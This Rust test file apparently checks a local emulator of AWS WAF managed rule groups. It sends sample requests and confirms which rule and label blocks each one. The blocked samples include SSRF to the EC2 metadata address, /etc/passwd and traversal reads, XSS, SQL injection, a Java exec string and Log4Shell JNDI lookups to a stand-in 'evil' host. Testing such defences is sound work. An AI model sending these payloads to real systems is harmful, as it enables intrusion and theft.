//! Managed rule groups: each rule with a request that it blocks, the traps that people fall into, and what is told of the groups.

use crate::desk::{Desk, group_rule};
use serde_json::{Value, json};

fn group(name: &str) -> Value {
    json!({ "ManagedRuleGroupStatement": { "VendorName": "AWS", "Name": name } })
}

/// The rule of the group that ends a request, and the labels.
async fn judged(desk: &Desk, request: &str) -> (String, Vec<String>) {
    let told = desk.explain("acl", request).await;
    let rule = told["ruleWithinGroup"].as_str().map_or(String::new(), |id| id.rsplit('#').next().unwrap().to_owned());
    (rule, told["labels"].as_array().unwrap().iter().map(|l| l.as_str().unwrap().to_owned()).collect())
}

async fn blocks(name: &str, prefix: &str, cases: &[(&str, &str, &str)], fine: &[&str]) {
    let desk = Desk::new().await;
    desk.web_acl("acl", json!([group_rule("managed", 0, group(name))])).await;
    for (rule, label, request) in cases {
        let (found, labels) = judged(&desk, request).await;
        assert_eq!(found, *rule, "{request}");
        assert!(labels.contains(&format!("{prefix}{label}")), "{request}: {labels:?}");
    }
    for request in fine {
        assert_eq!(judged(&desk, request).await.0, "", "{request}");
    }
}

fn post(body: &str) -> String {
    format!("POST / HTTP/1.1\nhost: api.test\nuser-agent: Mozilla/5.0\n\n{body}")
}
fn get(target: &str) -> String {
    format!("GET {target} HTTP/1.1\nhost: api.test\nuser-agent: Mozilla/5.0")
}
fn with(header: &str) -> String {
    format!("GET / HTTP/1.1\nhost: api.test\nuser-agent: Mozilla/5.0\n{header}")
}

#[tokio::test]
async fn the_core_rule_set() {
    let prefix = "awswaf:managed:aws:core-rule-set:";
    let long = |n: usize| "a".repeat(n);
    blocks(
        "AWSManagedRulesCommonRuleSet",
        prefix,
        &[
            ("NoUserAgent_HEADER", "NoUserAgent_Header", "GET / HTTP/1.1\nhost: api.test"),
            ("UserAgent_BadBots_HEADER", "BadBots_Header", "GET / HTTP/1.1\nhost: h\nuser-agent: Nessus"),
            ("SizeRestrictions_QUERYSTRING", "SizeRestrictions_QueryString", &get(&format!("/?{}", long(2049)))),
            ("SizeRestrictions_Cookie_HEADER", "SizeRestrictions_Cookie_Header", &with(&format!("cookie: a={}", long(10_239)))),
            ("SizeRestrictions_BODY", "SizeRestrictions_Body", &post(&long(8193))),
            ("SizeRestrictions_URIPATH", "SizeRestrictions_URIPath", &get(&format!("/{}", long(1024)))),
            ("EC2MetaDataSSRF_BODY", "EC2MetaDataSSRF_Body", &post("url=http://169.254.169.254/")),
            ("EC2MetaDataSSRF_COOKIE", "EC2MetaDataSSRF_Cookie", &with("cookie: u=169.254.169.254")),
            ("EC2MetaDataSSRF_QUERYARGUMENTS", "EC2MetaDataSSRF_QueryArguments", &get("/?u=http%3A%2F%2F169.254.169.254%2F")),
            ("EC2MetaDataSSRF_URIPATH", "EC2MetaDataSSRF_URIPath", &get("/latest/meta-data")),
            ("GenericLFI_QUERYARGUMENTS", "GenericLFI_QueryArguments", &get("/?f=..%2F..%2Fa")),
            ("GenericLFI_URIPATH", "GenericLFI_URIPath", &get("/..%2f..%2fa")),
            ("GenericLFI_BODY", "GenericLFI_Body", &post("f=../../a")),
            ("RestrictedExtensions_URIPATH", "RestrictedExtensions_URIPath", &get("/app.log")),
            ("RestrictedExtensions_QUERYARGUMENTS", "RestrictedExtensions_QueryArguments", &get("/?f=web.ini")),
            ("GenericRFI_QUERYARGUMENTS", "GenericRFI_QueryArguments", &get("/login?redirect_uri=http://localhost:3000/callback")),
            ("GenericRFI_BODY", "GenericRFI_Body", &post("u=ftp://203.0.113.5/x")),
            ("CrossSiteScripting_COOKIE", "CrossSiteScripting_Cookie", &with("cookie: a=<script>alert(1)</script>")),
            ("CrossSiteScripting_QUERYARGUMENTS", "CrossSiteScripting_QueryArguments", &get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")),
            ("CrossSiteScripting_BODY", "CrossSiteScripting_Body", &post(r#"{"a": "<img src=x onerror=alert(1)>"}"#)),
        ],
        &[
            &get("/live/images?user=ada&page=2"),
            &get("/login?redirect_uri=https://app.example.com/callback"),
            &post(r#"{"title": "A photo", "tags": ["sea"]}"#),
            &get(&format!("/?{}", long(2048))),
            &post(&long(8192)),
        ],
    )
    .await;
}

#[tokio::test]
async fn known_bad_inputs() {
    blocks(
        "AWSManagedRulesKnownBadInputsRuleSet",
        "awswaf:managed:aws:known-bad-inputs:",
        &[
            ("JavaDeserializationRCE_HEADER", "JavaDeserializationRCE_Header", &with("x-a: (java.lang.Runtime).getRuntime().exec('id')")),
            ("JavaDeserializationRCE_BODY", "JavaDeserializationRCE_Body", &post("java.lang.Runtime")),
            ("JavaDeserializationRCE_QUERYSTRING", "JavaDeserializationRCE_QueryString", &get("/?a=java.lang.ProcessBuilder")),
            ("Host_localhost_HEADER", "Host_Localhost_Header", "GET / HTTP/1.1\nhost: localhost:8080"),
            ("PROPFIND_METHOD", "Propfind_Method", "PROPFIND / HTTP/1.1\nhost: h"),
            ("ExploitablePaths_URIPATH", "ExploitablePaths_URIPath", &get("/WEB-INF/web.xml")),
            ("Log4JRCE_HEADER", "Log4JRCE_Header", &with("x-a: ${jndi:ldap://evil/a}")),
            ("Log4JRCE_QUERYSTRING", "Log4JRCE_QueryString", &get("/?a=%24%7Bjndi%3Aldap%3A%2F%2Fevil%7D")),
            ("Log4JRCE_BODY", "Log4JRCE_Body", &post("${jndi:rmi://evil}")),
        ],
        &[&get("/a?b=c"), &post("hello"), "GET / HTTP/1.1\nhost: abc.execute-api.us-east-1.amazonaws.com"],
    )
    .await;
}

#[tokio::test]
async fn sql_linux_and_admin() {
    blocks(
        "AWSManagedRulesSQLiRuleSet",
        "awswaf:managed:aws:sql-database:",
        &[
            ("SQLi_QUERYARGUMENTS", "SQLi_QueryArguments", &get("/?id=1%27%20OR%20%271%27=%271")),
            ("SQLi_BODY", "SQLi_Body", &post(r#"{"id": "1' OR '1'='1"}"#)),
            ("SQLi_COOKIE", "SQLi_Cookie", &with("cookie: id=1'%20OR%20'1'='1")),
        ],
        &[&get("/?id=42"), &post(r#"{"id": "select the best"}"#)],
    )
    .await;
    blocks(
        "AWSManagedRulesLinuxRuleSet",
        "awswaf:managed:aws:linux-os:",
        &[
            ("LFI_URIPATH", "LFI_URIPath", &get("/proc/version")),
            ("LFI_QUERYSTRING", "LFI_QueryString", &get("/?f=/etc/passwd")),
            ("LFI_HEADER", "LFI_Header", &with("x-f: /proc/self/environ")),
        ],
        &[&get("/process/version"), &get("/?f=passwd")],
    )
    .await;
    blocks(
        "AWSManagedRulesAdminProtectionRuleSet",
        "awswaf:managed:aws:admin-protection:",
        &[("AdminProtection_URIPATH", "AdminProtection_URIPath", &get("/sqlmanager/login"))],
        &[&get("/administrators-guide"), &get("/images")],
    )
    .await;
}

#[tokio::test]
async fn lists_of_addresses_are_the_users() {
    let desk = Desk::new().await;
    desk.addresses(json!({
        "198.51.100.0/24": { "lists": ["AWSManagedIPReputationList"] },
        "203.0.113.0/25": { "lists": ["AWSManagedIPDDoSList"] },
        "203.0.113.128/25": { "lists": ["HostingProviderIPList"] },
    }))
    .await;
    let rules = json!([
        group_rule("reputation", 0, group("AWSManagedRulesAmazonIpReputationList")),
        group_rule("anonymous", 1, group("AWSManagedRulesAnonymousIpList")),
    ]);
    desk.guard(rules).await;
    for (ip, action) in [("198.51.100.1", "BLOCK"), ("203.0.113.1", "ALLOW"), ("203.0.113.200", "BLOCK"), ("192.0.2.1", "ALLOW")] {
        assert_eq!(desk.action_from("GET /", ip).await, action, "{ip}");
    }
}

#[tokio::test]
async fn bots_at_the_common_level() {
    let desk = Desk::new().await;
    desk.web_acl("acl", json!([group_rule("bots", 0, group("AWSManagedRulesBotControlRuleSet"))])).await;
    let agent = |agent: &str| format!("GET / HTTP/1.1\nhost: h\nuser-agent: {agent}");
    for (who, rule, label) in [
        ("Boto3/1.43.11 md/Botocore", "CategoryHttpLibrary", "bot:category:http_library"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1)", "CategorySearchEngine", "bot:category:search_engine"),
        ("Mozilla/5.0 HeadlessChrome/120", "SignalAutomatedBrowser", "signal:automated_browser"),
        ("my-own-client/1", "SignalNonBrowserUserAgent", "signal:non_browser_user_agent"),
    ] {
        let (found, labels) = judged(&desk, &agent(who)).await;
        assert_eq!(found, rule, "{who}");
        assert!(labels.contains(&format!("awswaf:managed:aws:bot-control:{label}")), "{labels:?}");
        assert!(labels.contains(&"awswaf:managed:token:absent".to_owned()), "{labels:?}");
    }
    assert_eq!(judged(&desk, &agent("Mozilla/5.0 (X11; Linux x86_64) Firefox/130")).await.0, "");
    let targeted = json!({ "ManagedRuleGroupStatement": { "VendorName": "AWS", "Name": "AWSManagedRulesBotControlRuleSet",
        "ManagedRuleGroupConfigs": [{ "AWSManagedRulesBotControlRuleSet": { "InspectionLevel": "TARGETED" } }] } });
    let refusal = desk.refused("CheckCapacity", json!({ "Scope": "REGIONAL", "Rules": [group_rule("t", 0, targeted)] })).await;
    assert!(refusal.starts_with("NotImplemented") && refusal.contains("targeted"), "{refusal}");
}

#[tokio::test]
async fn overrides_and_scope_down_of_managed_groups() {
    let desk = Desk::new().await;
    let mut statement = group("AWSManagedRulesCommonRuleSet");
    statement["ManagedRuleGroupStatement"]["RuleActionOverrides"] =
        json!([{ "Name": "NoUserAgent_HEADER", "ActionToUse": { "Count": {} } }]);
    statement["ManagedRuleGroupStatement"]["ScopeDownStatement"] =
        crate::desk::bytes(json!({ "UriPath": {} }), "/api", "STARTS_WITH", &["NONE"]);
    desk.guard(json!([group_rule("managed", 0, statement)])).await;
    assert_eq!(desk.action("GET /api").await, "ALLOW", "the missing user agent only counts");
    assert_eq!(desk.action("GET /api/x.log").await, "BLOCK");
    assert_eq!(desk.action("GET /x.log").await, "ALLOW", "out of the group's scope");
}

#[tokio::test]
async fn what_is_told_of_the_groups() {
    let desk = Desk::new().await;
    let groups = desk.ok("ListAvailableManagedRuleGroups", json!({ "Scope": "REGIONAL" })).await;
    let groups = groups["ManagedRuleGroups"].as_array().unwrap();
    assert_eq!(groups.len(), 8);
    let core = groups.iter().find(|g| g["Name"] == "AWSManagedRulesCommonRuleSet").unwrap();
    assert!(core["Description"].as_str().unwrap().contains("Approximated by windtunnel: UserAgent_BadBots_HEADER"));
    let told = desk
        .ok("DescribeManagedRuleGroup", json!({ "VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet", "Scope": "REGIONAL" }))
        .await;
    assert_eq!((&told["Capacity"], &told["VersionName"]), (&json!(700), &json!("Version_1.0-approximated")));
    assert_eq!(told["Rules"].as_array().unwrap().len(), 22);
    assert_eq!(told["Rules"][0], json!({ "Name": "NoUserAgent_HEADER", "Action": { "Block": {} } }));
    for (name, code) in [("AWSManagedRulesATPRuleSet", "NotImplemented"), ("NoSuchRuleSet", "WAFNonexistentItemException")] {
        let refusal = desk.refused("DescribeManagedRuleGroup", json!({ "VendorName": "AWS", "Name": name, "Scope": "REGIONAL" })).await;
        assert!(refusal.starts_with(code), "{refusal}");
    }
}
